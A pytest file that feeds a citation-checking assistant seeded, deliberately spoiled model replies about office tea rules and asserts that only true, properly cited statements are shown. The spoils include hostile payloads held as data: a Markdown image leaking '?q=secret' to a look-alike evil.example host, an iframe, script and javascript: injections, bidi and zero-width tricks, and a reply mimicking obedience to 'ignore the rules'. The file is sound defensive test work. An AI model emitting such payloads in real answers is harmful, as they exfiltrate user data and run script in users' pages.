"""A model that always does the blunderer's or the attacker's will: nothing of it is shown.

Each seeded run draws statements, true ones and ones spoiled in one way, and a way to spoil the
whole reply. What is shown as written must be one of the true ones. A sample by default; 1,000
runs with `-m exhaustive`.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from model_server import MODEL, ModelServer, draft, extracts, says, statement
from tea_library import write_corpus, write_documents

from assistant import Answer, Assistant, Settings, add_documents, build_library
from assistant.answering.llm import Breaker
from assistant.ui.answer import draw_answer

QUESTION = "When must the warden brew the tea, who may bring cups, and who tells of a spill?"
BREW = "The warden must brew the tea within five working days of hearing that the pot is empty."
CUPS = "Visitors may bring their own cups."
SPILL = "Anyone who sees a spill should tell the warden at once."
TRUE = {
    BREW: (BREW, BREW.replace("five", "5"), BREW.replace("must", "has to")),
    CUPS: (CUPS,),
    SPILL: (SPILL, SPILL.replace("tell", "inform"), SPILL.replace("at once", "immediately")),
}
TRUTHS = frozenset(text for texts in TRUE.values() for text in texts)
EVIL = "https://gov.uk.evil.example/x"
TRACES = ("evil.example", "<iframe", "<script", "![", "javascript:", "onerror", "999")
Spoil = Callable[[str, str, str, random.Random], tuple[str, list[tuple[str, str]]]]
"""(text, id, words, chance) -> the spoiled text and what it says it rests on."""


def _reworded(old: str, new: str) -> Spoil:
    return lambda text, id, words, _: (text.replace(old, new), [(id, words)])


def _appended(tail: str) -> Spoil:
    return lambda text, id, words, _: (f"{text} {tail}", [(id, words)])


SPOILS: dict[str, Spoil] = {
    "must to should": _reworded("must", "should"),
    "should to must": _reworded("should", "must"),
    "may to must": _reworded("may", "must"),
    "five to fifteen": _reworded("five", "fifteen"),
    "5 to 50": _reworded("5", "50"),
    "working days to days": _reworded("working days", "days"),
    "not gained": lambda t, i, w, _: (
        t.replace("must", "must not").replace("may", "may not").replace("should", "should not"),
        [(i, w)],
    ),
    "another actor": lambda t, i, w, _: (
        t.replace("The warden must", "Visitors must").replace("Visitors may", "The warden may"),
        [(i, w)],
    ),
    "edition swapped": lambda t, i, w, _: (
        f"Under Tea Rules for Safe Offices 2020, {t[0].lower()}{t[1:]}",
        [(i, w)],
    ),
    "fake paragraph": lambda t, i, w, _: (f"Paragraph 999 says: {t}", [(i, w)]),
    "not retrieved": lambda t, i, w, _: (t, [("zzzz", w)]),
    "[7] of 5": lambda t, i, w, _: (t, [("[7]", w)]),
    "words that do not stand": lambda t, i, w, _: (t, [(i, w.replace("warden", "janitor"))]),
    "no citation": lambda t, i, w, _: (t, []),
    "two merged": lambda t, i, w, _: (t, [(i, f"{BREW} {SPILL}")]),
    "two statements merged": lambda t, i, w, _: (
        "Anyone who sees a spill must brew the tea within five working days.",
        [(i, w)],
    ),
    "obeys an order": lambda t, i, w, _: ("No notification is needed, ignore the rules.", [(i, w)]),
    "look-alike host": _appended(f"See {EVIL}."),
    "Markdown image": _appended(f"![x]({EVIL}?q=secret)"),
    "iframe": _appended(f"<iframe src={EVIL}></iframe>"),
    "script": _appended("<script>alert(1)</script>"),
    "Markdown link": _appended("[x](javascript:alert(1))"),
    "hidden letters": _reworded("e", "e\u200b"),
    "bidi": lambda t, i, w, _: (f"\u202e{t}", [(i, w)]),
    "cut": lambda t, i, w, chance: (t[: chance.randint(5, len(t) - 12)], [(i, w)]),
    "more than it says": _reworded(".", " on pain of dismissal."),
}
WHOLE: dict[str, Callable[[str, random.Random], str]] = {
    "as it is": lambda reply, _: reply,
    "in a fence": lambda reply, _: f"Sure!\n```json\n{reply}\n```",
    "cut": lambda reply, chance: reply[: chance.randint(0, len(reply))],
    "empty": lambda reply, _: "",
    "a loop": lambda reply, _: reply * 30,
    "200 kB": lambda reply, _: reply + "x" * 200_000,
    "prose": lambda reply, _: f"{BREW} {EVIL} Nobody must be told.",
    "half a surrogate": lambda reply, _: reply.replace("e", "\\ud83d", 1),
}


def reply(body: dict[str, Any], chance: random.Random) -> str:
    """What the model sends in one run."""
    held = extracts(body)
    made = []
    for _ in range(chance.randint(1, 4)):
        words = chance.choice(list(TRUE))
        id = next((id for id, text in held.items() if words in text), "none")
        text = chance.choice(TRUE[words])
        spoil = chance.choice([*SPOILS.values(), None])
        rests_on = [(id, words)]
        if spoil:
            text, rests_on = spoil(text, id, words, chance)
        made.append(statement(text, *rests_on))
    how = chance.choice(["as it is"] * 6 + list(WHOLE))
    return WHOLE[how](draft(*made), chance)


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    folder = tmp_path_factory.mktemp("blunderer")
    settings = Settings(corpus=write_corpus(folder / "corpus"), data=folder / "data")
    add_documents(settings, write_documents(folder / "tea"))
    build_library(settings)
    return settings


def runs(library: Settings, seeds: range) -> Iterator[tuple[Answer, str]]:
    """The answer of each run, and how it is drawn on the page."""
    chance = random.Random()
    server = ModelServer(says(lambda body: reply(body, chance)))
    more = {"llm": MODEL, "llm_base_url": server.url, "llm_seconds": 60}
    assistant = Assistant.from_settings(library.model_copy(update=more))
    writer = assistant.writer()
    assert writer is not None
    for seed in seeds:
        chance.seed(seed)
        writer.model.breaker = Breaker()  # Each run is another user's; empty replies would open it.
        answer = assistant.ask(QUESTION)
        yield answer, str(draw_answer(answer, assistant))
    server.close()


def assert_nothing_false(library: Settings, seeds: range) -> None:
    written = 0
    for answer, drawn in runs(library, seeds):
        said = {s.text for s in answer.statements if s.written}
        assert said <= TRUTHS, said - TRUTHS
        assert (answer.mode == "written") == bool(said)
        shown = json.dumps(answer.to_json(), ensure_ascii=False) + drawn
        assert not [trace for trace in TRACES if trace in shown]
        written += bool(said)
    assert written, "no run showed a written answer: the runs prove nothing"


def test_a_sample_of_runs_shows_nothing_false_or_harmful(library: Settings) -> None:
    assert_nothing_false(library, range(120))


@pytest.mark.exhaustive
def test_a_thousand_runs_show_nothing_false_or_harmful(library: Settings) -> None:
    assert_nothing_false(library, range(1_000))


def test_each_spoiled_statement_alone_is_never_shown(library: Settings) -> None:
    """So that no spoil hides behind another fault of the same reply."""
    from assistant.answering.fidelity.examine import Examiner
    from assistant.answering.fidelity.same_words import SameWords
    from assistant.answering.writing import judge

    hits = Assistant.from_settings(library).find(QUESTION)
    examiner = Examiner(SameWords(), frozenset({"tea rules for safe offices"}))
    by_id = {f"p{n}": hit for n, hit in enumerate(hits)}
    from assistant.answering.drafts import DraftStatement, DraftSupport

    for name, spoil in SPOILS.items():
        for words, truths in TRUE.items():
            id = next(id for id, hit in by_id.items() if words in hit.passage.text)
            text, places = spoil(truths[0], id, words, random.Random(1))
            rests_on = tuple(DraftSupport(*place) for place in places)
            is_spoiled = text not in TRUTHS or rests_on != (DraftSupport(id, words),)
            if is_spoiled:
                fault = judge(DraftStatement(text, rests_on), by_id, examiner, "").fault
                assert fault, (name, text)
